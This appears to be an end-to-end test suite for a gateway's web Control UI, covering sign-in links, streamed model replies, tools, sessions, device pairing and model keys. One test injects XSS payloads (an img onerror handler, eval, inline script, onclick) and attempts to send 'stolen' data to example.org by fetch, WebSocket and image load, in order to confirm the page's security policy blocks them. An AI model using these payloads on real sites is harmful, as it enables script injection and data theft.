// The Control UI against a real gateway process: sign-in by the printed link, a held-back stream, tools, stopping, crash, pairing, keys.
import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type GatewayProcess, openClawConfig, projectRoot, startGateway } from "../fixtures/gateway-process.ts";
import { type ModelServer, startModelServer } from "../fixtures/model-server/model-server.ts";
import { launchBrowser, openPage, type PageOptions, phone, picture, seriousFindings, type TestPage } from "./browser.ts";
import { buildUi } from "./built-ui.ts";
import { online, until } from "./ui-suite.ts";

const clean = { console: [], policy: [], foreign: [] };
const words = Array.from({ length: 20 }, (_, index) => `word${String(index + 1).padStart(2, "0")}`);

let browser: Browser;
let models: ModelServer;
const open: TestPage[] = [];
const gateways: GatewayProcess[] = [];

beforeAll(async () => {
  // The gateway serves the built page: it must be the one of these sources.
  const fresh = await buildUi();
  const served = path.join(projectRoot, "dist/ui/index.html");
  const isCurrent = existsSync(served) && (await readFile(served)).equals((await fresh.files()).get("index.html") ?? Buffer.alloc(0));
  await fresh.remove();
  if (!isCurrent) throw new Error("dist/ui is not built from these sources: node scripts/boot.mjs build");
  browser = await launchBrowser();
  models = await startModelServer();
});
afterEach(async () => {
  for (const { close } of open.splice(0)) await close();
  for (const gateway of gateways.splice(0)) await gateway.destroy();
  models.reset();
});
afterAll(async () => {
  await browser?.close();
  await models?.close();
});

async function newPage(options?: PageOptions): Promise<TestPage> {
  const made = await openPage(browser, options);
  open.push(made);
  return made;
}

async function gatewayWith(options: Parameters<typeof startGateway>[0] = {}): Promise<GatewayProcess> {
  const gateway = await startGateway({ args: ["--print-link"], ...options });
  gateways.push(gateway);
  return gateway;
}

async function linkOf(gateway: GatewayProcess): Promise<string> {
  const pattern = /https?:\/\/\S+#link=[\w-]+/;
  await until("the link was printed", () => pattern.test(gateway.output()));
  return pattern.exec(gateway.output())?.[0] ?? "";
}

async function signIn(gateway: GatewayProcess, options?: PageOptions): Promise<TestPage> {
  const made = await newPage(options);
  await made.page.goto(await linkOf(gateway));
  await online(made.page);
  return made;
}

/** The conversation alone: the list beside it shows last words too. */
const thread = (page: Page) => page.getByRole("log");
const composer = (page: Page) => page.getByLabel("Message", { exact: true });
async function say(page: Page, text: string): Promise<void> {
  await composer(page).fill(text);
  await composer(page).press("Enter");
}
const withModel = (extra: object = {}) => ({ config: openClawConfig({ baseUrl: models.baseUrl("openai-chat"), extra }) });

describe("a newcomer", () => {
  it("opens the printed link, talks to the demo, sees a tool work, and finds it all again after a reload and a kill", async () => {
    const gateway = await gatewayWith();
    const link = await linkOf(gateway);
    const { page, trouble } = await signIn(gateway);
    expect(page.url()).toBe(`${gateway.url}/`);
    await page.getByRole("link", { name: "Demo model: add a key" }).waitFor();
    await page.getByRole("button", { name: "Write hello to notes.md" }).click();
    await page.getByRole("button", { name: /write .*Done/ }).waitFor();
    await thread(page).getByText("made by the demo model").waitFor();
    await page.getByRole("link", { name: "Nothing running" }).waitFor();
    await picture(page, "real-newcomer");
    expect(await seriousFindings(page)).toEqual([]);

    const { page: second } = await newPage();
    await second.goto(link);
    await second.getByText("This link was used already").waitFor();

    await page.reload();
    await thread(page).getByText("made by the demo model").waitFor();
    await gateway.kill();
    await page.getByText("Not connected").first().waitFor();
    const again = await startGateway({ stateDir: gateway.stateDir, port: gateway.port });
    gateways.push(again);
    await online(page);
    await thread(page).getByText("made by the demo model").waitFor();
    await say(page, "status");
    await page.getByRole("button", { name: /session_status .*Done/ }).waitFor();
    // A browser logs by itself that a socket failed; nothing of ours may.
    expect(trouble.console.filter((line) => !line.includes("WebSocket connection to"))).toEqual([]);
    expect([trouble.policy, trouble.foreign]).toEqual([[], []]);
  });
});

describe("a conversation with a model", () => {
  it("[stream.held-chunks] shows each of 20 held-back chunks before the model says the next", async () => {
    const gateway = await gatewayWith(withModel());
    const { page, trouble } = await signIn(gateway);
    models.script({ scenario: { kind: "text", text: words.map((word) => `${word} `).join(""), chunks: words.length, holdKey: "ui" } });
    await say(page, "go");
    let shown = 0;
    for (const word of words) {
      models.release(1, "ui");
      await thread(page).getByText(word).waitFor();
      shown++;
    }
    models.release(Number.POSITIVE_INFINITY, "ui");
    await page.getByRole("button", { name: "Stop (Esc)" }).waitFor({ state: "detached" });
    await page.getByText("mock/mock-1").first().waitFor({ state: "attached" });
    expect(await thread(page).getByText("word20").count()).toBe(1);
    console.log(`held-back chunks shown one by one: ${shown}`);
    expect(shown).toBe(20);
    expect(trouble).toEqual(clean);
  });

  it("shows a tool that the gateway ran, between the words around it", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway, { viewport: phone, touch: true, colorScheme: "dark" });
    models.script({ scenario: { kind: "rounds", rounds: [{ text: "I look first.", calls: [{ name: "list", args: {} }] }, { text: "That is all there is." }] } });
    await say(page, "what is there?");
    await page.getByRole("button", { name: /list .*Done/ }).waitFor();
    await thread(page).getByText("That is all there is.").waitFor();
    const tops = await Promise.all([thread(page).getByText("I look first."), page.getByRole("button", { name: /list .*Done/ }), thread(page).getByText("That is all there is.")].map(async (part) => (await part.boundingBox())?.y ?? 0));
    expect(tops).toEqual(tops.toSorted((one, other) => one - other));
    await picture(page, "real-tool-phone");
    expect(await seriousFindings(page)).toEqual([]);
  });

  it("is stopped by Escape, and what was said is kept on the gateway", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    models.script({ scenario: { kind: "text", text: words.map((word) => `${word} `).join(""), chunks: words.length, holdKey: "stop" } });
    await say(page, "go");
    models.release(5, "stop");
    await thread(page).getByText("word05").waitFor();
    await page.keyboard.press("Escape");
    await thread(page).getByText("Stopped here").waitFor();
    await page.reload();
    await thread(page).getByText("word05").waitFor();
    await thread(page).getByText("Stopped here").waitFor();
    expect(await thread(page).getByText("word06").count()).toBe(0);
  });

  it("queues what is said meanwhile, and takes it back", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    models.script({ scenario: { kind: "text", text: "first answer", chunks: 2, holdKey: "queue" } });
    await say(page, "one");
    models.release(1, "queue");
    await page.getByRole("button", { name: "Stop (Esc)" }).waitFor();
    await page.getByLabel("What a message does now").selectOption("followup");
    await say(page, "two");
    const queue = page.getByRole("group", { name: "Queued messages" });
    await queue.getByText("two").waitFor();
    await queue.getByRole("button", { name: "Take back" }).click();
    await queue.waitFor({ state: "detached" });
    models.release(Number.POSITIVE_INFINITY, "queue");
    await thread(page).getByText("first answer").waitFor();
    await page.getByRole("link", { name: "Nothing running" }).waitFor();
    expect(models.requests().length).toBe(1);
  });

  it("says what went wrong with a provider, and what to do", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    models.script({ apiKeys: ["another-key"] });
    await say(page, "hello?");
    await page.getByRole("button", { name: "Retry" }).waitFor();
    await picture(page, "real-provider-fault");
    models.script({ apiKeys: [] });
  });

  it("answers commands", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    await say(page, "/status");
    await page.getByRole("article", { name: "Assistant" }).getByText("mock/mock-1").first().waitFor();
    await picture(page, "real-status-command");
  });
});

describe("sessions", () => {
  it("are renamed, forked, and deleted, on the gateway itself", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    models.script({ scenario: { kind: "echo" } });
    await page.getByRole("button", { name: "New conversation" }).click();
    await until("it has its own address", () => /#\/chat\/agent:main:chat-/.test(page.url()));
    await say(page, "something to keep");
    await thread(page).getByText("echo: something to keep").waitFor();
    await page.getByRole("link", { name: "Nothing running" }).waitFor();
    await page.getByRole("button", { name: "Conversation actions" }).click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    await page.getByLabel("Name", { exact: true }).fill("Kept");
    await page.getByLabel("Name", { exact: true }).press("Enter");
    await page.getByRole("heading", { level: 1, name: "Kept" }).waitFor();
    const original = page.url();
    await page.getByRole("button", { name: "Conversation actions" }).click();
    await page.getByRole("menuitem", { name: "Fork" }).click();
    await until("the copy is open", () => page.url() !== original);
    await thread(page).getByText("echo: something to keep").waitFor();
    await page.goto(`${gateway.url}/#/sessions`);
    const rows = page.getByRole("row");
    await until("both are listed", async () => (await rows.count()) >= 3);
    await page.getByRole("row", { name: /^Kept/ }).first().getByRole("button").click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    const before = await rows.count();
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    await until("one less is listed", async () => (await rows.count()) === before - 1);
    await picture(page, "real-sessions");
  });
});

describe("devices", () => {
  it("a second browser shows six words, is approved by them in the first, and loses everything when revoked", async () => {
    const gateway = await gatewayWith(withModel());
    const { page: owner, trouble } = await signIn(gateway);
    const { page: guest } = await newPage({ viewport: phone, touch: true });
    await guest.goto(gateway.url);
    await guest.getByLabel("Gateway token").fill(gateway.token);
    await guest.getByRole("button", { name: "Connect" }).click();
    await guest.getByRole("heading", { name: "This browser waits for approval" }).waitFor();
    const guestWords = await guest.getByRole("list", { name: "Six words to compare" }).getByRole("listitem").allTextContents();
    expect(guestWords.length).toBe(6);

    await owner.getByRole("link", { name: "1 device waits" }).click();
    const request = owner.getByRole("group", { name: /^Request of/ });
    await request.getByRole("listitem").nth(5).waitFor();
    const ownerWords = await request.getByRole("listitem").allTextContents();
    expect(ownerWords).toEqual(guestWords);
    await picture(owner, "real-approve");
    await request.getByRole("button", { name: "Approve" }).click();
    await online(guest);
    await owner.getByText("No device waits.").waitFor();

    const menus = owner.getByRole("button", { name: /^Actions for/ });
    await until("both devices are listed", async () => (await menus.count()) === 2);
    const others = owner.locator(".device").filter({ hasNotText: "This browser" });
    await others.getByRole("button", { name: /^Actions for/ }).click();
    await owner.getByRole("menuitem", { name: "Revoke operator token" }).click();
    await owner.getByRole("button", { name: "Revoke", exact: true }).click();
    await guest.getByRole("heading", { name: /Sign in|Not let in|waits for approval/ }).waitFor();
    expect(trouble).toEqual(clean);
  });

  it("a link made under Devices signs another browser in, once", async () => {
    const gateway = await gatewayWith(withModel());
    const { page: owner } = await signIn(gateway);
    await owner.goto(`${gateway.url}/#/devices`);
    await owner.getByRole("button", { name: "Sign-in link" }).click();
    await owner.getByRole("button", { name: "Copy the link" }).click();
    const link = await owner.evaluate(() => navigator.clipboard.readText());
    expect(link.startsWith(`${gateway.url}/#link=`)).toBe(true);
    await picture(owner, "real-link");
    const { page: other } = await newPage();
    await other.goto(link);
    await online(other);
    expect(await other.getByRole("link", { name: "Limited access" }).count()).toBe(0);
    await owner.getByRole("button", { name: "Done" }).click();
    await until("it is listed", async () => (await owner.getByRole("button", { name: /^Actions for/ }).count()) === 2);
  });

  it("the shared token alone reads and writes, and says that it can do no more", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await newPage();
    await page.goto(gateway.url);
    await page.getByLabel("Gateway token").fill(gateway.token);
    await page.getByRole("button", { name: "Connect" }).click();
    await page.getByRole("button", { name: "Only read and write for now" }).click();
    await page.getByRole("link", { name: "Limited access" }).waitFor();
    models.script({ scenario: { kind: "echo" } });
    await say(page, "with the token");
    await thread(page).getByText("echo: with the token").waitFor();
    await page.goto(`${gateway.url}/#/models`);
    await page.getByText("This browser may look, but not change.").waitFor();
  });
});

describe("models and keys", () => {
  it("a provider is added by the form, tested, and answers without a restart", async () => {
    const gateway = await gatewayWith();
    const { page, trouble } = await signIn(gateway);
    await page.goto(`${gateway.url}/#/models`);
    await page.getByRole("button", { name: "Add a key" }).first().click();
    await page.getByLabel("Provider", { exact: true }).selectOption({ label: "Another, by its address" });
    await page.getByLabel("Short name").fill("lab");
    await page.getByLabel("Address").fill(models.baseUrl("openai-chat"));
    await page.getByRole("textbox", { name: "Models" }).fill("mock-1");
    await page.getByLabel("Key, if it wants one").fill("mock-key");
    await page.getByRole("button", { name: "Save and test" }).click();
    await page.getByText("It works.").waitFor();
    await page.getByRole("link", { name: "Demo model: add a key" }).waitFor({ state: "detached" });
    await page.getByLabel("Default", { exact: true }).selectOption("lab/mock-1");
    await page.getByRole("link", { name: "lab/mock-1" }).waitFor();
    await picture(page, "real-models");
    models.script({ scenario: { kind: "echo" } });
    await page.goto(`${gateway.url}/#/chat`);
    await say(page, "a real model now");
    await thread(page).getByText("echo: a real model now").waitFor();
    expect(await readFile(path.join(gateway.stateDir, "config.yaml"), "utf8")).toContain("lab");
    expect(trouble).toEqual(clean);
  });
});

describe("[I.21] a page under attack", () => {
  it("[I.21] runs no injected code, sends nothing elsewhere and cannot be framed", async () => {
    const gateway = await gatewayWith(withModel());
    const { page, trouble } = await signIn(gateway);
    const tried = await page.evaluate(async () => {
      const state = window as unknown as { hacked?: string };
      const outcome: Record<string, string> = {};
      const attempt = (name: string, act: () => void): void => {
        try {
          act();
          outcome[name] = "no error";
        } catch (error) {
          outcome[name] = (error as Error).name;
        }
      };
      attempt("markup", () => (document.body.innerHTML += "<img src=x onerror='window.hacked=1'>"));
      // What the debugger evaluates may use eval; what the page runs by itself may not.
      await new Promise<void>((resolve) => setTimeout(() => {
        // oxlint-disable-next-line typescript/no-implied-eval -- the attack itself
        attempt("eval", () => void new Function("window.hacked = 'eval'")());
        resolve();
      }));
      attempt("script text", () => {
        const script = document.createElement("script");
        script.textContent = "window.hacked = 'inline'";
        document.body.append(script);
      });
      attempt("handler", () => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.hacked = 'handler'");
        document.body.append(button);
        button.click();
        button.remove();
      });
      const reached = async (name: string, go: () => Promise<unknown>): Promise<void> => {
        outcome[name] = await go().then(() => "reached", () => "blocked");
      };
      await reached("fetch", () => fetch("https://example.org/?stolen"));
      await reached("socket", () => new Promise((resolve, reject) => {
        const socket = new WebSocket("wss://example.org/");
        socket.onopen = resolve;
        socket.onerror = reject;
      }));
      const picture = new Image();
      picture.src = "https://example.org/stolen.png";
      await reached("picture", () => picture.decode());
      return { outcome, hacked: state.hacked };
    });
    expect(tried.hacked).toBeUndefined();
    expect(tried.outcome).toMatchObject({ markup: "TypeError", eval: "EvalError", fetch: "blocked", socket: "blocked", picture: "blocked" });
    // The recorder of these tests sees violations: silence elsewhere means that there were none.
    for (const directive of ["require-trusted-types-for", "connect-src", "img-src"]) await until(`${directive} was recorded`, () => trouble.policy.some((line) => line.startsWith(directive)));
    console.log(`attacks tried: ${Object.keys(tried.outcome).length}, violations recorded: ${trouble.policy.length}`);

    const { page: outer } = await newPage();
    await outer.route("**/frame.html", (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${gateway.url}/"></iframe>` }));
    await outer.goto(`${gateway.url.replace("127.0.0.1", "localhost")}/frame.html`);
    await outer.waitForLoadState("load");
    const frame = outer.frames().find((candidate) => candidate !== outer.mainFrame());
    expect(await frame?.locator("oc-app").count().catch(() => 0) ?? 0).toBe(0);
  });
});

describe("the overview", () => {
  it("tells the truth about runs, health and the connection", async () => {
    const gateway = await gatewayWith(withModel());
    const { page } = await signIn(gateway);
    models.script({ scenario: { kind: "text", text: "slow words", chunks: 2, holdKey: "overview" } });
    await say(page, "slowly");
    models.release(1, "overview");
    await page.getByRole("link", { name: "1 run", exact: true }).waitFor();
    await page.keyboard.press("Tab");
    await page.goto(`${gateway.url}/#/overview`);
    await page.getByText("Running", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Check now" }).click();
    await page.getByText("Well", { exact: true }).waitFor();
    models.release(Number.POSITIVE_INFINITY, "overview");
    await page.getByText("Nothing is running.").waitFor();
    await page.getByRole("link", { name: "Nothing running" }).waitFor();
  });
});
